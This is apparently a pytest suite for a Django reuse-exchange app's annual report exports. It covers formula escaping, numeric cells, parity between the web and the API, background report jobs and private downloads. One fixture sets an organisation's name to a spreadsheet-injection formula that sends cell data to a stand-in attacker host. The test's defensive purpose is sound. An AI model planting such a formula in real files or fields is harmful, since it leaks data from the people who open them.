"""The annual report's files: what people write (an organisation's name) never becomes a
formula in a spreadsheet, and numbers stay numbers."""

import csv
import datetime
import io
from decimal import Decimal

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from openpyxl import load_workbook

from exchange.claims.services import claim_approve, claim_collect, claim_create
from exchange.impact.models import ImpactRecord, ImpactSource
from exchange.impact.services.records import impact_record_for_claim
from exchange.impact.services.totals import impact_totals_add, impact_totals_rebuild
from exchange.organisations.models import Organisation
from tests.factories import LotFactory, MembershipFactory, OrganisationFactory, SiteFactory

pytestmark = pytest.mark.django_db

YEAR = datetime.date.today().year
PREV = YEAR - 1
HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"x")'
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def hostile(fed_admin, categories):
    """A donor that calls itself a formula hands 4 chairs over; a correction takes one
    back, booked in Wallonia (so that the Walloon row of the report is negative)."""
    Organisation.objects.filter(pk=fed_admin.organisation_id).update(name=HOSTILE)
    federal = MembershipFactory(
        organisation=OrganisationFactory(kind="federal", name="FPS Beta"), role="member"
    )
    lot = LotFactory(site=SiteFactory(organisation=fed_admin.organisation), published=True)
    claim = claim_approve(actor=fed_admin, claim=claim_create(actor=federal, lot=lot, quantity=4))
    claim_collect(actor=fed_admin, claim=claim, quantity=4)
    record = impact_record_for_claim(claim_id=claim.pk)
    correction = ImpactRecord.objects.create(
        occurred_on=record.occurred_on,
        source=ImpactSource.CORRECTION,
        outcome=record.outcome,
        lot=record.lot,
        corrects=record,
        quantity=-1,
        weight_kg=Decimal("-11.9"),
        co2e_avoided_kg=Decimal("-35"),
        replacement_value_eur=Decimal("-280"),
        factor_version=record.factor_version,
        donor=record.donor,
        recipient=record.recipient,
        category=record.category,
        region="WAL",
    )
    impact_totals_add(records=ImpactRecord.objects.filter(pk=correction.pk))
    analyst = federal.user
    analyst.groups.add(Group.objects.get_or_create(name="analyst")[0])
    return analyst


def test_the_csv_report_writes_a_formula_name_as_text(client_for, hostile):
    response = client_for(hostile).get(f"/api/v1/reports/annual/{YEAR}/", {"format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    donors = [row for row in rows if row[0] == "By donor"]
    assert [row[1] for row in donors] == ["'" + HOSTILE]
    assert not any(cell.startswith(FORMULA_STARTS) for row in rows for cell in row[:2])
    # a negative figure is still a number
    wallonia = next(row for row in rows if row[:2] == ["By region", "Wallonia"])
    assert wallonia[2:6] == ["-1", "-12", "-35", "-280"]  # whole kg and euros, half up


def test_the_xlsx_report_writes_a_formula_name_as_text(client_for, hostile):
    response = client_for(hostile).get(f"/api/v1/reports/annual/{YEAR}/", {"format": "xlsx"})
    workbook = load_workbook(io.BytesIO(response.content))
    donors = workbook["By donor"]
    assert (donors["A2"].value, donors["A2"].data_type) == ("'" + HOSTILE, "s")
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    # a negative figure is still a number
    regions = {row[0].value: row for row in workbook["By region"].iter_rows(min_row=2)}
    assert [cell.value for cell in regions["Wallonia"][1:5]] == [-1, -12, -35, -280]
    assert {cell.data_type for cell in regions["Wallonia"][1:5]} == {"n"}


# --- One report service for the web and the API -----------------------------------


@pytest.fixture
def history(categories):
    from tests.support.impact_history import impact_history

    return impact_history()


@pytest.mark.parametrize(
    ("year", "file_format", "query", "status", "code", "message"),
    [
        (1999, "csv", {}, 400, "year_out_of_range", "Give a year from 2000 to 2100."),
        (YEAR, "docx", {}, 400, "invalid_format", "Choose csv, xlsx or pdf."),
        (
            YEAR,
            "csv",
            {"factors": "1999.9"},
            400,
            "unknown_factor_version",
            "No factor version 1999.9.",
        ),
    ],
)
def test_the_web_and_the_api_refuse_the_same_reports_the_same_way(
    client, client_for, history, year, file_format, query, status, code, message
):
    member = history.members["alpha"].user
    api = client_for(member).get(
        f"/api/v1/reports/annual/{year}/", {"format": file_format, **query}
    )
    assert (api.status_code, api.json()["code"], api.json()["detail"]) == (status, code, message)
    client.force_login(member)
    web = client.get(f"/stats/report/{year}.{file_format}", query)
    assert web.status_code == status
    assert message in web.content.decode()


def test_without_an_organisation_the_web_and_the_api_say_403(client, client_for, history):
    from tests.factories import UserFactory

    loner = UserFactory()
    api = client_for(loner).get(f"/api/v1/reports/annual/{YEAR}/", {"format": "csv"})
    assert (api.status_code, api.json()["code"]) == (403, "no_organisation")
    client.force_login(loner)
    web = client.get(f"/stats/report/{YEAR}.csv")
    assert web.status_code == 403
    assert "Statistics are for members of an organisation and for analysts." in web.content.decode()


def test_the_web_and_the_api_give_the_same_file(client, client_for, history):
    member = history.members["beta"].user  # English
    api = client_for(member).get(
        f"/api/v1/reports/annual/{YEAR}/", {"format": "csv", "factors": "2026.1"}
    )
    client.force_login(member)
    web = client.get(f"/stats/report/{YEAR}.csv", {"factors": "2026.1"})
    assert web.status_code == api.status_code == 200
    assert web.content == api.content
    assert web["Content-Disposition"] == api["Content-Disposition"]


def test_a_new_factor_version_recomputes_the_web_report_as_the_api_one(
    client, client_for, categories, fed_admin, moderator
):
    from exchange.categories.models import CategoryFactor, FactorVersion
    from exchange.categories.services import factor_version_copy, factor_version_publish

    # given 4 chairs handed over under 2026.1 (35 kg CO2e each), then a version 2027.1
    # that counts 50 kg a chair
    federal = MembershipFactory(organisation=OrganisationFactory(kind="federal"), role="member")
    lot = LotFactory(site=SiteFactory(organisation=fed_admin.organisation), published=True)
    claim = claim_approve(actor=fed_admin, claim=claim_create(actor=federal, lot=lot, quantity=4))
    claim_collect(actor=fed_admin, claim=claim, quantity=4)
    impact_record_for_claim(claim_id=claim.pk)
    draft = factor_version_copy(
        user=moderator, source=FactorVersion.objects.get(is_current=True), version="2027.1"
    )
    CategoryFactor.objects.filter(version=draft, category__code="office-chair").update(
        co2e_avoided_per_unit_kg=Decimal("50")
    )
    factor_version_publish(user=moderator, version=draft)
    # when the owner asks for the report as it stands and recomputed with 2027.1
    client.force_login(fed_admin.user)
    stored = client.get(f"/stats/report/{YEAR}.csv")
    recomputed = client.get(f"/stats/report/{YEAR}.csv", {"factors": "2027.1"})

    # then the stored figures stay, the recomputed ones follow 2027.1, as in the API
    def co2e(response) -> str:
        return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))[1][4]

    assert (co2e(stored), co2e(recomputed)) == ("140", "200")
    api = client_for(fed_admin.user).get(
        f"/api/v1/reports/annual/{YEAR}/", {"format": "csv", "factors": "2027.1"}
    )
    assert api.content == recomputed.content


# --- Large years: a job, private files ---------------------------------------------


def test_a_large_year_on_the_web_is_a_job_with_its_page_and_a_private_download(
    client, history, settings, django_capture_on_commit_callbacks
):
    from exchange.impact.models import ReportJob
    from exchange.impact.services.reports import report_job_run

    settings.EXCHANGE_REPORT_SYNC_LIMIT = 3  # FPS Alpha has 4 records this year
    alpha = history.members["alpha"].user
    client.force_login(alpha)
    # when the owner asks for the report of a large year
    with django_capture_on_commit_callbacks() as callbacks:
        response = client.get(f"/stats/report/{YEAR}.xlsx")
    # then they land on the job's page, which says it is being prepared
    job = ReportJob.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/stats/reports/{job.pk}/"
    assert len(callbacks) == 1  # the task is queued after commit
    waiting = client.get(response["Location"]).content.decode()
    assert "being prepared" in waiting
    assert f"/stats/reports/{job.pk}/download/" not in waiting
    assert client.get(f"/stats/reports/{job.pk}/download/").status_code == 404
    # once built, the page links the file, which only its requester downloads
    assert report_job_run(job_id=job.pk) is True
    ready = client.get(response["Location"]).content.decode()
    assert f'href="/stats/reports/{job.pk}/download/"' in ready
    download = client.get(f"/stats/reports/{job.pk}/download/")
    assert download.status_code == 200
    assert 'filename="reuse-exchange-' in download["Content-Disposition"]
    workbook = load_workbook(io.BytesIO(b"".join(download.streaming_content)))
    assert workbook["Headline figures"]["B2"].value == 3 + 4 + 2 + 4  # FPS Alpha's items
    for other in (history.members["beta"].user, history.analyst):
        client.force_login(other)
        assert client.get(f"/stats/reports/{job.pk}/").status_code == 404
        assert client.get(f"/stats/reports/{job.pk}/download/").status_code == 404


def test_report_job_files_are_private_and_unguessable(client_for, history, settings):
    import pathlib

    from exchange.impact.models import ReportJob
    from exchange.impact.services.reports import report_job_run

    settings.EXCHANGE_REPORT_SYNC_LIMIT = 0
    alpha = history.members["alpha"]
    response = client_for(alpha.user).get(f"/api/v1/reports/annual/{YEAR}/", {"format": "csv"})
    assert response.status_code == 202
    report_job_run(job_id=response.json()["id"])
    job = ReportJob.objects.get()
    # stored outside the public media folder, under a name with 256 random bits
    path = pathlib.Path(job.file.path)
    assert path.is_relative_to(settings.PRIVATE_MEDIA_ROOT)
    assert not list(pathlib.Path(settings.MEDIA_ROOT).rglob("*.csv"))
    folder = path.parent.name
    assert len(folder) >= 43
    assert path.name == f"reuse-exchange-{YEAR}-en.csv"  # the job's id is in no part of it
    with pytest.raises(ValueError):
        _ = job.file.url  # no URL serves it
    # guessing where it was, or where it lies, gives nothing, to anyone
    guesses = [f"/media/reports/{path.name}", f"/media/{job.file.name}", f"/media/{path.name}"]
    for who in (None, history.members["beta"].user, alpha.user):
        web = Client()
        if who:
            web.force_login(who)
        assert [web.get(guess).status_code for guess in guesses] == [404, 404, 404]
    # the API gives the file to its requester only, and not once they left the organisation
    download = f"/api/v1/reports/jobs/{job.pk}/download/"
    assert client_for(alpha.user).get(download).status_code == 200
    colleague = MembershipFactory(organisation=alpha.organisation, role="admin").user
    for other in (colleague, history.analyst, history.members["beta"].user):
        assert client_for(other).get(download).status_code == 404
    alpha.delete()
    assert client_for(alpha.user).get(download).status_code == 404
    assert client_for(alpha.user).get(f"/api/v1/reports/jobs/{job.pk}/").status_code == 404


# --- Labels: one query for all of them ----------------------------------------------


def test_the_report_names_every_group_with_one_query(history, django_assert_max_num_queries):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    from exchange.categories.models import Category
    from exchange.impact.presenters.reports import annual_report_data

    # given a year of records in every category
    record = ImpactRecord.objects.filter(occurred_on__year=PREV).first()
    more = []
    for category in Category.objects.all():
        record.pk, record.category = None, category
        more.append(
            ImpactRecord(
                **{f.attname: getattr(record, f.attname) for f in record._meta.concrete_fields}
            )
        )
    ImpactRecord.objects.bulk_create(more)
    impact_totals_rebuild()  # written behind the services' back
    # when the report of that year is laid out, then a handful of queries name it all
    # (two of them for the "Reuse before buying" section, two for the year before's
    # totals)
    with django_assert_max_num_queries(12):
        data = annual_report_data(organisation_id=None, year=PREV, language="fr")
    categories = {row["key"]: row["label"] for row in data["breakdowns"]["category"]}
    assert len(categories) == Category.objects.count()
    assert categories["office-chair"] == "Chaise de bureau"
    assert {row["label"] for row in data["breakdowns"]["region"]} == {
        "Flandre",
        "Wallonie",
        "Bruxelles-Capitale",
    }
    # and the same number for one category as for all of them
    with CaptureQueriesContext(connection) as few:
        annual_report_data(organisation_id=None, year=YEAR, language="fr")
    with CaptureQueriesContext(connection) as many:
        annual_report_data(organisation_id=None, year=PREV, language="fr")
    assert len(few) == len(many)


def test_a_report_job_survives_passing_trouble_and_fails_on_a_bug(
    client_for, history, settings, monkeypatch
):
    from exchange.impact.models import ReportJob
    from exchange.impact.renderers import RENDERERS
    from exchange.impact.services.reports import report_job_run

    settings.EXCHANGE_REPORT_SYNC_LIMIT = 0
    client = client_for(history.members["alpha"].user)
    first = client.get(f"/api/v1/reports/annual/{YEAR}/", {"format": "csv"}).json()["id"]
    second = client.get(f"/api/v1/reports/annual/{YEAR}/", {"format": "pdf"}).json()["id"]

    def disk_full(data, **options):
        raise OSError("No space left on device")

    def bug(data, **options):
        raise ZeroDivisionError

    # a full disk: the job stays pending, and the task's next try builds it
    monkeypatch.setitem(RENDERERS, "csv", (disk_full, "text/csv"))
    with pytest.raises(OSError):
        report_job_run(job_id=first)
    assert ReportJob.objects.get(pk=first).status == "pending"
    monkeypatch.undo()
    assert report_job_run(job_id=first) is True
    assert ReportJob.objects.get(pk=first).status == "ready"
    # a bug: the job fails, and the page says so
    monkeypatch.setitem(RENDERERS, "pdf", (bug, "application/pdf"))
    with pytest.raises(ZeroDivisionError):
        report_job_run(job_id=second)
    assert ReportJob.objects.get(pk=second).status == "failed"
    assert report_job_run(job_id=second) is False


# --- An organisation's report --------------------------------------------------------


@pytest.mark.parametrize("language", ["nl", "fr", "de", "en"])
def test_a_member_downloads_their_organisations_report_in_every_language_and_format(
    client_for, history, language
):
    alpha = history.members["alpha"]
    client = client_for(alpha.user)
    for file_format in ("pdf", "xlsx", "csv"):
        response = client.get(
            f"/api/v1/reports/annual/{YEAR}/",
            {"format": file_format, "language": language, "organisation": alpha.organisation_id},
        )
        assert response.status_code == 200, file_format
        if file_format == "xlsx":
            workbook = load_workbook(io.BytesIO(response.content))
            assert "FPS Alpha" in workbook.worksheets[0]["A1"].value  # its title names it
            assert workbook.worksheets[1]["B2"].value == 3 + 4 + 2 + 4  # given and received


def test_analysts_produce_any_organisations_report_and_others_get_404(client, client_for, history):
    beta = history.organisations["beta"]
    url = f"/api/v1/reports/annual/{YEAR}/"
    # an analyst: any organisation's, with its own figures only
    response = client_for(history.analyst).get(
        url, {"format": "csv", "language": "en", "organisation": beta.pk}
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][:3] == ["Total", str(YEAR), "9"]  # what FPS Beta received this year
    # a member of another organisation, or an organisation that does not exist: 404
    member = history.members["alpha"].user
    for organisation in (beta.pk, 999_999, "x"):
        refused = client_for(member).get(url, {"format": "csv", "organisation": organisation})
        assert (refused.status_code, refused.json()["code"]) == (404, "unknown_organisation")
    client.force_login(member)
    assert client.get(f"/stats/report/{YEAR}.pdf", {"organisation": beta.pk}).status_code == 404
